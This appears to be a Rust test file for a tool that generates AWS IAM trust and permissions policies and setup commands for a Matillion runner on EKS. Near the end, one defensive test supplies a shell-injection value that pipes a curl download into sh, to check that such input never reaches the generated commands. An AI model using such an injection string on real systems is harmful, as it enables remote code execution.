//! The runner on Amazon EKS (issue 28), through the crate's one entry point: the OIDC
//! issuer in every spelling people paste and the wrong things they paste instead, the
//! Kubernetes names, the IRSA and Pod Identity trust policies, the runner's permissions,
//! the console steps and their commands. Requests are written as the JSON every host
//! sends, so the test reads like what a person typed.

#[path = "support/cases.rs"]
mod cases;

use cases::{code, codes};
use iam_policy_core::{Request, Response, build};
use serde_json::{Value, json};

const ACCOUNT: &str = "123456789012";
const ISSUER_ID: &str = "D43CF17C27A865933144EA99A26FB128";

fn request(fields: Value) -> Request {
    serde_json::from_value(fields).unwrap_or_else(|e| panic!("not a request: {e}"))
}

/// An EKS request with the account and region typed, and `fields` on top.
fn eks(fields: Value) -> Response {
    let mut base = json!({
        "platform": "eks",
        "account": ACCOUNT,
        "region": "eu-west-1",
        "secrets": ["matillion/agent"],
    });
    for (key, value) in fields.as_object().expect("an object") {
        base[key] = value.clone();
    }
    build(&request(base))
}

fn ids(response: &Response) -> Vec<&'static str> {
    response.documents.iter().map(|d| d.id.as_str()).collect()
}

fn policy(response: &Response, id: &str) -> Value {
    let document = response
        .documents
        .iter()
        .find(|d| d.id.as_str() == id)
        .unwrap_or_else(|| panic!("no {id}: {:?}", ids(response)));
    serde_json::to_value(&document.policy).expect("serialises")
}

fn problem<'a>(response: &'a Response, wanted: &str) -> &'a iam_policy_core::Problem {
    response
        .problems
        .iter()
        .find(|p| code(p) == wanted)
        .unwrap_or_else(|| panic!("no {wanted}: {:?}", codes(response)))
}

fn field(problem: &iam_policy_core::Problem) -> String {
    serde_json::to_value(problem.field)
        .expect("a field")
        .as_str()
        .expect("a string")
        .to_owned()
}

fn irsa_trust(issuer_host: &str, partition: &str, subjects: Value) -> Value {
    json!({
        "Version": "2012-10-17",
        "Statement": [{
            "Effect": "Allow",
            "Principal": {"Federated": format!("arn:{partition}:iam::{ACCOUNT}:oidc-provider/{issuer_host}")},
            "Action": "sts:AssumeRoleWithWebIdentity",
            "Condition": {"StringEquals": {
                format!("{issuer_host}:aud"): "sts.amazonaws.com",
                format!("{issuer_host}:sub"): subjects,
            }}
        }]
    })
}

const COMMERCIAL: &str = "oidc.eks.eu-west-1.amazonaws.com/id/D43CF17C27A865933144EA99A26FB128";

#[test]
fn ecs_fargate_stays_the_default_and_builds_only_the_ecs_documents() {
    let ecs = build(&request(json!({
        "account": ACCOUNT, "region": "eu-west-1", "secrets": ["matillion/agent"],
    })));
    assert_eq!(
        ids(&ecs),
        ["task-role-trust-policy", "execution-role-secrets-policy"]
    );
    let explicit = build(&request(json!({
        "platform": "ecs-fargate", "account": ACCOUNT, "region": "eu-west-1", "secrets": ["matillion/agent"],
    })));
    assert_eq!(ecs, explicit);
    // The EKS fields change nothing for ECS: no problem, no document.
    let with_eks_fields = build(&request(json!({
        "account": ACCOUNT, "region": "eu-west-1", "secrets": ["matillion/agent"],
        "oidcIssuer": "not an issuer", "kubernetesNamespace": "Bad_Namespace",
    })));
    assert_eq!(ecs, with_eks_fields);
}

#[test]
fn eks_builds_the_runner_role_documents_instead_of_the_ecs_ones() {
    let response = eks(json!({"oidcIssuer": format!("https://{COMMERCIAL}")}));
    assert_eq!(
        ids(&response),
        ["runner-role-trust-policy", "runner-role-permissions-policy"]
    );
    assert!(!response.has_errors(), "{:?}", response.problems);
    assert_eq!(
        policy(&response, "runner-role-trust-policy"),
        irsa_trust(
            COMMERCIAL,
            "aws",
            json!("system:serviceaccount:matillion:matillion-runner-sa")
        )
    );
}

#[test]
fn every_accepted_spelling_of_the_issuer_gives_the_same_trust_policy() {
    let expected = irsa_trust(
        COMMERCIAL,
        "aws",
        json!("system:serviceaccount:matillion:matillion-runner-sa"),
    );
    for spelling in [
        format!("https://{COMMERCIAL}"),
        COMMERCIAL.to_owned(),
        format!("https://{COMMERCIAL}/"),
        format!("{COMMERCIAL}/"),
        format!("  https://{COMMERCIAL}\n"),
        format!("https://OIDC.EKS.EU-WEST-1.AMAZONAWS.COM/id/{ISSUER_ID}"),
        // As `aws eks describe-cluster` prints it without `--output text`.
        format!("\"https://{COMMERCIAL}\""),
        format!("arn:aws:iam::{ACCOUNT}:oidc-provider/{COMMERCIAL}"),
    ] {
        let response = eks(json!({"oidcIssuer": spelling}));
        assert!(
            !response.has_errors(),
            "{spelling}: {:?}",
            response.problems
        );
        assert_eq!(
            policy(&response, "runner-role-trust-policy"),
            expected,
            "{spelling}"
        );
    }
    // Read from an ARN, the builder says so; a URL needs no word.
    let from_arn =
        eks(json!({"oidcIssuer": format!("arn:aws:iam::{ACCOUNT}:oidc-provider/{COMMERCIAL}")}));
    assert_eq!(
        field(problem(&from_arn, "oidc-issuer-from-arn")),
        "oidcIssuer"
    );
    let from_url = eks(json!({"oidcIssuer": format!("https://{COMMERCIAL}")}));
    assert!(codes(&from_url).iter().all(|c| !c.starts_with("oidc-")));
}

#[test]
fn china_and_govcloud_issuers_give_their_partitions_arns_and_the_same_audience() {
    let china = "oidc.eks.cn-north-1.amazonaws.com.cn/id/9D5D6851D8B6072929E0E4D984DD9D97";
    let response = eks(json!({"region": "cn-north-1", "oidcIssuer": format!("https://{china}")}));
    assert!(!response.has_errors(), "{:?}", response.problems);
    // The audience stays sts.amazonaws.com in China (eksctl issue 1910).
    assert_eq!(
        policy(&response, "runner-role-trust-policy"),
        irsa_trust(
            china,
            "aws-cn",
            json!("system:serviceaccount:matillion:matillion-runner-sa")
        )
    );
    let gov = "oidc.eks.us-gov-west-1.amazonaws.com/id/6F1D2E3C4B5A69788796A5B4C3D2E1F0";
    let response = eks(json!({"region": "us-gov-west-1", "oidcIssuer": gov}));
    assert!(!response.has_errors(), "{:?}", response.problems);
    assert_eq!(
        policy(&response, "runner-role-trust-policy"),
        irsa_trust(
            gov,
            "aws-us-gov",
            json!("system:serviceaccount:matillion:matillion-runner-sa")
        )
    );
    let gov_arn = eks(json!({
        "region": "us-gov-west-1",
        "oidcIssuer": format!("arn:aws-us-gov:iam::{ACCOUNT}:oidc-provider/{gov}"),
    }));
    assert_eq!(
        policy(&gov_arn, "runner-role-trust-policy"),
        policy(&response, "runner-role-trust-policy")
    );
}

#[test]
fn things_that_are_not_the_issuer_are_named_for_what_they_are() {
    for (typed, wanted) in [
        (
            format!("arn:aws:eks:eu-west-1:{ACCOUNT}:cluster/prod"),
            "oidc-issuer-cluster-arn",
        ),
        (
            format!("https://{ISSUER_ID}.gr7.eu-west-1.eks.amazonaws.com"),
            "oidc-issuer-api-endpoint",
        ),
        (
            "https://oidc.eks.eu-west-1.amazonaws.com".to_owned(),
            "oidc-issuer-invalid",
        ),
        (
            "https://oidc.eks.eu-west-1.amazonaws.com/id/".to_owned(),
            "oidc-issuer-invalid",
        ),
        (
            format!("https://oidc.eks.xx-nowhere-9.amazonaws.com/id/{ISSUER_ID}"),
            "oidc-issuer-invalid",
        ),
        // A China region under the commercial suffix is no issuer AWS hands out.
        (
            format!("https://oidc.eks.cn-north-1.amazonaws.com/id/{ISSUER_ID}"),
            "oidc-issuer-invalid",
        ),
        ("my-cluster".to_owned(), "oidc-issuer-invalid"),
        ("".to_owned(), "oidc-issuer-missing"),
    ] {
        let response = eks(json!({"oidcIssuer": typed}));
        let found = problem(&response, wanted);
        assert_eq!(field(found), "oidcIssuer", "{typed}");
        assert!(response.has_errors(), "{typed}");
        let trust = response
            .documents
            .iter()
            .find(|d| d.id.as_str() == "runner-role-trust-policy")
            .expect("still built");
        assert!(!trust.complete, "{typed}: looks finished");
        assert!(trust.has_placeholders(), "{typed}");
        // The message says what the issuer looks like and where to find it.
        assert!(
            found.message.contains("OpenID Connect provider URL"),
            "{typed}: {}",
            found.message
        );
    }
    // A cluster ARN gives its cluster's name: the fix says how to get its issuer.
    let response =
        eks(json!({"oidcIssuer": format!("arn:aws:eks:eu-west-1:{ACCOUNT}:cluster/prod")}));
    assert!(
        problem(&response, "oidc-issuer-cluster-arn")
            .message
            .contains("aws eks describe-cluster --name 'prod' --region 'eu-west-1' --query cluster.identity.oidc.issuer --output text"),
        "{}",
        problem(&response, "oidc-issuer-cluster-arn").message
    );
}

#[test]
fn an_issuer_in_another_region_partition_or_account_is_said_on_the_issuer() {
    let other_region = "oidc.eks.us-east-1.amazonaws.com/id/D43CF17C27A865933144EA99A26FB128";
    let response = eks(json!({"oidcIssuer": other_region}));
    let found = problem(&response, "oidc-issuer-other-region");
    assert_eq!(field(found), "oidcIssuer");
    assert!(found.message.contains("us-east-1") && found.message.contains("eu-west-1"));
    // The cluster's own issuer is what its tokens carry: the policy keeps it.
    assert_eq!(
        policy(&response, "runner-role-trust-policy"),
        irsa_trust(
            other_region,
            "aws",
            json!("system:serviceaccount:matillion:matillion-runner-sa")
        )
    );

    let china = format!("https://oidc.eks.cn-north-1.amazonaws.com.cn/id/{ISSUER_ID}");
    let response = eks(json!({"oidcIssuer": china}));
    assert_eq!(
        field(problem(&response, "oidc-issuer-other-partition")),
        "oidcIssuer"
    );
    assert!(response.has_errors());

    let response = eks(json!({
        "oidcIssuer": format!("arn:aws:iam::999999999999:oidc-provider/{COMMERCIAL}"),
    }));
    let found = problem(&response, "oidc-provider-other-account");
    assert_eq!(field(found), "oidcIssuer");
    assert!(found.message.contains("999999999999") && found.message.contains(ACCOUNT));
    assert!(response.has_errors());
}

#[test]
fn several_service_accounts_are_one_list_of_exact_subjects() {
    let response = eks(json!({
        "oidcIssuer": COMMERCIAL,
        "kubernetesNamespace": "bu-grid",
        "serviceAccounts": ["runner-grid-sa", "runner-grid-script-runner-sa"],
    }));
    assert!(!response.has_errors(), "{:?}", response.problems);
    assert_eq!(
        policy(&response, "runner-role-trust-policy"),
        irsa_trust(
            COMMERCIAL,
            "aws",
            json!([
                "system:serviceaccount:bu-grid:runner-grid-sa",
                "system:serviceaccount:bu-grid:runner-grid-script-runner-sa"
            ])
        )
    );
}

#[test]
fn a_typed_wildcard_switches_only_the_subject_to_string_like_and_says_who_else_may_assume() {
    let response = eks(json!({
        "oidcIssuer": COMMERCIAL,
        "kubernetesNamespace": "*",
    }));
    let trust = policy(&response, "runner-role-trust-policy");
    let condition = &trust["Statement"][0]["Condition"];
    assert_eq!(
        condition["StringEquals"],
        json!({format!("{COMMERCIAL}:aud"): "sts.amazonaws.com"})
    );
    assert_eq!(
        condition["StringLike"],
        json!({format!("{COMMERCIAL}:sub"): "system:serviceaccount:*:matillion-runner-sa"})
    );
    let warning = problem(&response, "kubernetes-namespace-wildcard");
    assert_eq!(
        warning.document.map(|d| d.as_str()),
        Some("runner-role-trust-policy")
    );
    assert!(
        warning.message.contains("any namespace"),
        "{}",
        warning.message
    );

    let response = eks(json!({
        "oidcIssuer": COMMERCIAL,
        "serviceAccounts": ["*-script-runner-sa"],
    }));
    let warning = problem(&response, "service-account-wildcard");
    assert_eq!(warning.entry, Some(0));
    assert_eq!(
        warning.document.map(|d| d.as_str()),
        Some("runner-role-trust-policy")
    );
    // Without a typed wildcard, never StringLike.
    let exact = eks(json!({"oidcIssuer": COMMERCIAL}));
    assert!(
        policy(&exact, "runner-role-trust-policy")["Statement"][0]["Condition"]
            .get("StringLike")
            .is_none()
    );
}

#[test]
fn kubernetes_names_follow_kubernetes_rules() {
    for (namespace, wanted) in [
        ("Matillion", Some("matillion")),
        ("-matillion", None),
        ("matillion-", None),
        ("matil lion", None),
        ("matillion.prod", None),
    ] {
        let response = eks(json!({"oidcIssuer": COMMERCIAL, "kubernetesNamespace": namespace}));
        let found = problem(&response, "kubernetes-namespace-invalid");
        assert_eq!(field(found), "kubernetesNamespace", "{namespace}");
        assert_eq!(found.suggestion.as_deref(), wanted, "{namespace}");
    }
    let too_long = "a".repeat(64);
    let response = eks(json!({"oidcIssuer": COMMERCIAL, "kubernetesNamespace": too_long}));
    assert!(
        problem(&response, "kubernetes-namespace-invalid")
            .message
            .contains("63")
    );
    let ok = eks(json!({"oidcIssuer": COMMERCIAL, "kubernetesNamespace": "a".repeat(63)}));
    assert!(!ok.has_errors(), "{:?}", ok.problems);

    // A service account name may hold dots (a DNS subdomain); not underscores or capitals.
    let response = eks(json!({
        "oidcIssuer": COMMERCIAL,
        "serviceAccounts": ["runner.v2", "Runner_SA", "matillion-runner-sa"],
    }));
    let invalid: Vec<_> = response
        .problems
        .iter()
        .filter(|p| code(p) == "service-account-invalid")
        .collect();
    assert_eq!(invalid.len(), 1, "{:?}", response.problems);
    assert_eq!(invalid[0].entry, Some(1));
    assert_eq!(field(invalid[0]), "serviceAccounts");
}

#[test]
fn the_service_accounts_default_to_the_helm_charts() {
    let response = build(&request(json!({
        "platform": "eks", "account": ACCOUNT, "region": "eu-west-1",
        "secrets": ["matillion/agent"], "oidcIssuer": COMMERCIAL,
    })));
    assert_eq!(
        policy(&response, "runner-role-trust-policy")["Statement"][0]["Condition"]["StringEquals"]
            [format!("{COMMERCIAL}:sub")],
        json!("system:serviceaccount:matillion:matillion-runner-sa")
    );
    // An emptied list is an error on the field, not a policy nobody can assume.
    let response = eks(json!({"oidcIssuer": COMMERCIAL, "serviceAccounts": []}));
    assert_eq!(
        field(problem(&response, "service-accounts-missing")),
        "serviceAccounts"
    );
}

#[test]
fn pod_identity_trusts_the_eks_auth_service_for_the_namespace_and_service_accounts() {
    let response = eks(json!({"eksCredentials": "pod-identity"}));
    assert_eq!(
        policy(&response, "runner-role-trust-policy"),
        json!({
            "Version": "2012-10-17",
            "Statement": [{
                "Sid": "AllowEksAuthToAssumeRoleForPodIdentity",
                "Effect": "Allow",
                "Principal": {"Service": "pods.eks.amazonaws.com"},
                "Action": ["sts:AssumeRole", "sts:TagSession"],
                "Condition": {"StringEquals": {
                    "aws:RequestTag/kubernetes-namespace": "matillion",
                    "aws:RequestTag/kubernetes-service-account": "matillion-runner-sa",
                }}
            }]
        })
    );
    // No issuer is needed, and Fargate is named: Matillion's EKS module runs there.
    assert!(
        !codes(&response)
            .iter()
            .any(|c| c.starts_with("oidc-issuer"))
    );
    let fargate = problem(&response, "pod-identity-not-on-fargate");
    assert_eq!(field(fargate), "eksCredentials");
    assert!(fargate.message.contains("Fargate"));

    let with_cluster = eks(json!({"eksCredentials": "pod-identity", "clusterName": "prod"}));
    assert_eq!(
        policy(&with_cluster, "runner-role-trust-policy")["Statement"][0]["Condition"]["StringEquals"]
            ["aws:RequestTag/eks-cluster-arn"],
        json!(format!("arn:aws:eks:eu-west-1:{ACCOUNT}:cluster/prod"))
    );
    let bad_cluster = eks(json!({"eksCredentials": "pod-identity", "clusterName": "prod cluster"}));
    assert_eq!(
        field(problem(&bad_cluster, "cluster-name-invalid")),
        "clusterName"
    );
}

#[test]
fn pod_identity_where_aws_does_not_document_it_is_a_warning() {
    for region in ["cn-north-1", "us-gov-west-1"] {
        let response = eks(json!({"eksCredentials": "pod-identity", "region": region}));
        let found = problem(&response, "pod-identity-partition-unconfirmed");
        assert_eq!(field(found), "eksCredentials", "{region}");
        assert_eq!(found.severity, iam_policy_core::Severity::Warning);
    }
    let commercial = eks(json!({"eksCredentials": "pod-identity"}));
    assert!(!codes(&commercial).contains(&"pod-identity-partition-unconfirmed".to_owned()));
}

#[test]
fn the_runner_permissions_are_what_the_two_ecs_roles_grant_together_in_one_policy() {
    let response = eks(json!({
        "oidcIssuer": COMMERCIAL,
        "secrets": ["matillion/agent"],
        "runtimeSecrets": ["prod/warehouse"],
        "stagingBuckets": ["my-staging-bucket"],
        "kmsKeys": ["1234abcd-12ab-34cd-56ef-1234567890ab"],
    }));
    assert!(!response.has_errors(), "{:?}", response.problems);
    let permissions = policy(&response, "runner-role-permissions-policy");
    let statements = permissions["Statement"].as_array().expect("statements");
    let by_sid = |sid: &str| {
        statements
            .iter()
            .find(|s| s["Sid"] == sid)
            .unwrap_or_else(|| panic!("no {sid}: {permissions}"))
    };
    assert_eq!(
        by_sid("ListSecrets")["Action"],
        json!("secretsmanager:ListSecrets")
    );
    assert_eq!(by_sid("ListSecrets")["Resource"], json!("*"));
    assert_eq!(
        by_sid("ReadAgentSecrets")["Resource"],
        json!([
            "arn:aws:secretsmanager:eu-west-1:123456789012:secret:matillion/agent-??????",
            "arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/warehouse-??????"
        ])
    );
    assert_eq!(
        by_sid("DecryptAgentSecrets")["Resource"],
        json!(["arn:aws:kms:eu-west-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"])
    );
    assert_eq!(
        by_sid("ListStagingBuckets")["Resource"],
        json!(["arn:aws:s3:::my-staging-bucket"])
    );
    assert_eq!(
        by_sid("ReadWriteStagingObjects")["Resource"],
        json!(["arn:aws:s3:::my-staging-bucket/*"])
    );
    // Every scope the ECS path has: "every secret" is said on this document.
    let all = eks(json!({"oidcIssuer": COMMERCIAL, "secretScope": "all"}));
    let statements = policy(&all, "runner-role-permissions-policy")["Statement"].clone();
    assert!(
        statements
            .as_array()
            .expect("statements")
            .iter()
            .any(|s| s["Action"] == json!(["secretsmanager:GetSecretValue"])
                && s["Resource"] == json!("*"))
    );
    assert_eq!(
        problem(&all, "secrets-all").document.map(|d| d.as_str()),
        Some("runner-role-permissions-policy")
    );
}

#[test]
fn the_steps_register_the_provider_create_the_role_and_annotate_the_service_account() {
    let response = eks(json!({
        "oidcIssuer": COMMERCIAL,
        "serviceAccounts": ["matillion-runner-sa", "matillion-runner-script-runner-sa"],
        "clusterName": "prod",
    }));
    let trust = response
        .documents
        .iter()
        .find(|d| d.id.as_str() == "runner-role-trust-policy")
        .expect("trust");
    let steps = trust.placement.steps.join("\n");
    for expected in [
        format!(
            "aws iam get-open-id-connect-provider --open-id-connect-provider-arn 'arn:aws:iam::{ACCOUNT}:oidc-provider/{COMMERCIAL}'"
        ),
        "eksctl utils associate-iam-oidc-provider --cluster 'prod' --region 'eu-west-1' --approve"
            .to_owned(),
        "Web identity".to_owned(),
        format!(
            "kubectl annotate serviceaccount --namespace 'matillion' 'matillion-runner-sa' 'eks.amazonaws.com/role-arn=arn:aws:iam::{ACCOUNT}:role/matillion-runner-role'"
        ),
        format!(
            "kubectl annotate serviceaccount --namespace 'matillion' 'matillion-runner-script-runner-sa' 'eks.amazonaws.com/role-arn=arn:aws:iam::{ACCOUNT}:role/matillion-runner-role'"
        ),
        "serviceAccount.roleArn".to_owned(),
    ] {
        assert!(steps.contains(&expected), "missing {expected} in\n{steps}");
    }
    let pod_identity = eks(json!({"eksCredentials": "pod-identity", "clusterName": "prod"}));
    let steps = pod_identity.documents[0].placement.steps.join("\n");
    assert!(
        steps.contains(&format!("aws eks create-pod-identity-association --cluster-name 'prod' --region 'eu-west-1' --namespace 'matillion' --service-account 'matillion-runner-sa' --role-arn 'arn:aws:iam::{ACCOUNT}:role/matillion-runner-role'")),
        "{steps}"
    );
    assert!(steps.contains("eks-pod-identity-agent"), "{steps}");
}

#[test]
fn nothing_typed_into_a_kubernetes_field_reaches_a_command_unless_it_is_a_valid_name() {
    let hostile = "x'; curl example.net | sh; echo '";
    let response = eks(json!({
        "oidcIssuer": COMMERCIAL,
        "kubernetesNamespace": hostile,
        "serviceAccounts": [hostile],
        "clusterName": hostile,
        "runnerRoleName": hostile,
    }));
    for name in [
        "kubernetes-namespace-invalid",
        "service-account-invalid",
        "cluster-name-invalid",
        "role-name-invalid",
    ] {
        problem(&response, name);
    }
    for document in &response.documents {
        for step in &document.placement.steps {
            assert!(!step.contains("curl"), "{step}");
        }
    }
    let text = serde_json::to_string(&response.documents).expect("serialises");
    assert!(!text.contains("curl"), "a hostile name reached a document");
}

#[test]
fn problems_about_secrets_point_at_the_runner_permissions_on_eks() {
    let response = eks(json!({
        "oidcIssuer": COMMERCIAL,
        "secrets": ["prod/*"],
    }));
    assert_eq!(
        problem(&response, "secret-wildcard")
            .document
            .map(|d| d.as_str()),
        Some("runner-role-permissions-policy")
    );
    assert_eq!(
        response.target.runner_role.as_deref(),
        Some("matillion-runner-role")
    );
}
